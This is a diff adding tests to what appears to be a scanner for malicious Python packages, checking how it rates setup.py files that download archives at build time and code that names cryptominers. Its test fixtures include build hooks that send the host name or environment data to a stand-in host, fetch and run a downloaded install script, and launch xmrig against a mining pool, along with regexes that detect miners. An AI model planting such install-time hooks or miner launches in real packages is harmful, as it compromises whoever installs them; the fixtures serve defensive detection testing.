@@ -2263,3 +2263,113 @@ def test_an_exec_statement_in_python_2_runs_no_other_file():
     result = scan({"setup.py": PY2_SETUP, "demo/__init__.py": PY2_MODULE, "demo/shared.py": other})
     assert not found(result, "analysis.parse-failed")
     assert result.verdict not in FLAGGED
+
+
+# -- a build that fetches a library's released sources and unpacks them ---------------------
+
+_FETCH_SOURCES = """
+import io
+import os
+import socket
+import tarfile
+import urllib.request
+from setuptools import setup
+
+URL = {url}
+
+
+def fetch_library():
+    response = urllib.request.urlopen(URL{extra})
+    with tarfile.open(fileobj=io.BytesIO(response.read())) as archive:
+        archive.extractall("vendor")
+{after}
+
+fetch_library()
+setup(name="demo")
+"""
+
+
+def _fetch(url='"https://example.org/lib/archive/v1.2.tar.gz"', extra="", after=""):
+    return scan({"setup.py": _FETCH_SOURCES.format(url=url, extra=extra, after=after)})
+
+
+def test_a_build_unpacking_sources_it_downloads_is_worth_a_look_not_a_block():
+    result = _fetch()
+    network = found(result, "capability.network")
+    assert network and {f.severity for f in network} == {"medium"}
+    assert "unpacks" in network[0].message
+    assert result.verdict not in FLAGGED
+
+
+def test_a_fetch_that_is_not_unpacked_or_sends_the_host_still_blocks():
+    # the same download, its answer never opened as an archive: a beacon
+    beacon = scan(
+        {
+            "setup.py": "import urllib.request\nfrom setuptools import setup\n"
+            "urllib.request.urlopen('https://example.org/lib/archive/v1.2.tar.gz')\n"
+            "setup(name='demo')\n"
+        }
+    )
+    assert [f for f in found(beacon, "capability.network") if f.severity == "high"]
+    assert beacon.verdict in FLAGGED
+    # the host's name in the address of the archive it unpacks
+    named = _fetch(url='"https://example.org/lib/" + socket.gethostname() + ".tar.gz"')
+    assert [f for f in found(named, "capability.network") if f.severity == "high"]
+    assert named.verdict in FLAGGED
+    # a request with a body
+    posted = _fetch(extra=", data=os.environ.get('HOME', '').encode()")
+    assert [f for f in found(posted, "capability.network") if f.severity == "high"]
+    # an address the code does not write in
+    given = _fetch(url="os.environ['LIB_URL']")
+    assert [f for f in found(given, "capability.network") if f.severity == "high"]
+    # an address that names no release archive (an endpoint serving whatever it likes)
+    endpoint = _fetch(url='"https://example.org/getlib"')
+    assert [f for f in found(endpoint, "capability.network") if f.severity == "high"]
+
+
+def test_running_a_program_from_the_unpacked_download_still_blocks():
+    result = _fetch(after='    os.system("vendor/lib/install.sh")\n')
+    assert result.verdict in FLAGGED
+
+
+# -- a detector's regular expression names what it looks for ---------------------------------
+
+_DETECTOR = r"""
+import re
+
+MINER_LINE = re.compile(r"\b(?:xmrig|minerd)\b.{0,80}stratum\+tcp://[\w.-]+:\d+", re.I)
+POOL = re.compile(r"(?:pool\.)?nanopool\.org|supportxmr\.com")
+
+
+def flags(text):
+    return bool(MINER_LINE.search(text) or POOL.search(text))
+"""
+
+_MINER = r"""
+import subprocess
+{detector}
+subprocess.Popen(["./xmrig", "--donate-level", "1", "-o", "stratum+tcp://pool.example.net:3333"])
+"""
+
+
+def test_miner_names_inside_a_detectors_patterns_are_not_a_miner():
+    result = scan(
+        {"setup.py": SETUP, "demo/__init__.py": "from . import rules\n", "demo/rules.py": _DETECTOR}
+    )
+    miner = found(result, "indicator.cryptominer")
+    assert miner and {f.severity for f in miner} == {"low"}
+    assert "regular expression" in miner[0].message
+    assert result.verdict not in FLAGGED
+
+
+def test_a_miner_started_beside_such_patterns_is_still_named():
+    result = scan(
+        {
+            "setup.py": SETUP,
+            "demo/__init__.py": "from . import run\n",
+            "demo/run.py": _MINER.format(detector=_DETECTOR),
+        }
+    )
+    miner = found(result, "indicator.cryptominer")
+    assert miner and {f.severity for f in miner} == {"high"}
+    assert result.verdict in FLAGGED
